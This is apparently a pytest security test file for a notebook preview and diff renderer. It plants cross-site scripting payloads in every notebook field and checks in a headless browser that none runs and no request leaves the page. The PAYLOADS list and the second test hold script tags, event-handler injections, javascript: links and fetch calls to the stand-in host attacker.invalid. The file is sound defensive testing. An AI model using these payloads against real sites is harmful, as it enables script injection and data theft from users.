"""Script in a notebook's texts, outputs, pictures and names tries to run in the reviewer's browser, or to call out."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

from browser_parts import chromium
from nbkeep.rendering.compare import compare
from nbkeep.rendering.preview import preview
from scan_parts import KEY, code, look, notebook, shown, stream

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.sync_api import Browser

__all__ = ["chromium"]
pytestmark = pytest.mark.attack

FAR = "http://attacker.invalid"
PAYLOADS = [
    "<script>window.owned = 1; fetch('http://attacker.invalid/a')</script>",
    "<img src=x onerror='window.owned = 1'><img src='http://attacker.invalid/b.png'>",
    "\"><svg onload='window.owned = 1'><script>window.owned = 1</script></svg>",
    "</pre></section></main><iframe srcdoc='<script>parent.owned = 1</script>'></iframe>",
    "</title><meta http-equiv=refresh content='0; url=http://attacker.invalid/c'>",
    "<style>@import 'http://attacker.invalid/d';</style><link rel=stylesheet href='http://attacker.invalid/e'>",
    "<a href='javascript:window.owned = 1' id=bait>x</a><form action='http://attacker.invalid/f'><input autofocus>",
    "<base href='http://attacker.invalid/'><object data='http://attacker.invalid/g'></object>",
    "<details open ontoggle='window.owned = 1'>x</details>",
    "[removed: <script>window.owned = 1</script>]\ue0000\ue001<img src=x onerror='window.owned = 1'>\ue0009\ue001",
    "<mark class='\"><script>window.owned = 1</script>'>",
]


def hostile(extra: str = "") -> dict[str, Any]:
    """Return a notebook that has the payloads wherever a text can stand, and a key beside each."""
    cells = [_cell(payload + extra) for payload in PAYLOADS]
    return notebook(
        *cells, metadata={payload: {"a": [payload, 1]} for payload in PAYLOADS}, **{PAYLOADS[0]: 1}
    )


def _cell(payload: str) -> dict[str, Any]:
    beside = f"{payload} {KEY}"
    error = {"output_type": "error", "ename": payload, "evalue": beside, "traceback": [payload, beside]}
    bundle = {"image/png": payload, "image/svg+xml": payload, "application/pdf": payload}
    cell = code(
        beside, stream(beside, payload), shown(text__html=payload, **{payload: beside}), error,
        {"output_type": payload, "data": bundle}, id=payload,
        metadata={"tags": [payload, f"hide-cell{payload}"], payload: beside},
        attachments={f"{payload}.png": {"image/png": payload, payload: payload}},
    )  # fmt: skip
    cell["cell_type"] = payload
    return cell


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder of previews and comparisons."""
    folder = tmp_path_factory.mktemp("pages")
    book, other = (json.dumps(hostile(extra)).encode() for extra in ("", "?"))
    text, name = "\n".join(PAYLOADS), "".join(PAYLOADS)
    made = {
        "preview": preview(book, f"{name}.ipynb", look()),
        "text": preview(f"{text}\n{KEY}\n".encode(), f"{name}.html", look()),
        "compare": compare(book, other, f"{name}.ipynb"),
        "lines": compare(text.encode(), f"?{text}\n{text}".encode(), f"{name}.txt"),
    }
    for kind, page in made.items():
        (folder / f"{kind}.html").write_bytes(page)
    return folder


def test_nothing_runs_and_nothing_is_asked_of_anybody(chromium: Browser, pages: Path):
    context = chromium.new_context()
    asked: list[str] = []
    told: list[str] = []
    page = context.new_page()
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: dialog.dismiss())
    page.on("console", lambda message: told.append(message.text))
    for file in sorted(pages.iterdir()):
        page.goto(file.as_uri())
        assert page.evaluate("window.owned") is None, file.name
        assert page.url == file.as_uri()
        counted = page.evaluate(
            "() => document.querySelectorAll('script, iframe, object, form, input, base, link, svg, img,"
            " meta[http-equiv=refresh], a[href^=javascript]').length"
        )
        assert counted == 0, file.name
        handlers = page.evaluate(
            "() => [...document.querySelectorAll('*')].flatMap(one => one.getAttributeNames())"
            ".filter(name => name.startsWith('on'))"
        )
        assert handlers == [], file.name
    assert [url for url in asked if not url.startswith("file:")] == []
    assert told == [], "not even something that the policy had to refuse"
    context.close()


def test_the_policy_of_the_pages_lets_no_script_run_if_one_came_through(chromium: Browser, tmp_path: Path):
    made = preview(b"x = 1", "a.py", look()).decode()
    (tmp_path / "a.html").write_text(
        made.replace("</main>", f"<script>window.owned = 1</script><img src='{FAR}/x.png'"
                     " onerror='window.owned = 1'><p style='color: red' id=p>x</p></main>")
    )  # fmt: skip
    context = chromium.new_context()
    page = context.new_page()
    asked: list[str] = []
    refused: list[tuple[str, str | None]] = []
    page.on("requestfinished", lambda request: asked.append(request.url))
    page.on("requestfailed", lambda request: refused.append((request.url, request.failure)))
    page.goto((tmp_path / "a.html").as_uri())
    assert page.evaluate("window.owned") is None
    assert not any(url.startswith(FAR) for url in asked)
    assert refused == [(f"{FAR}/x.png", "csp")]
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(246, 244, 238)", (
        "its own style"
    )
    context.close()
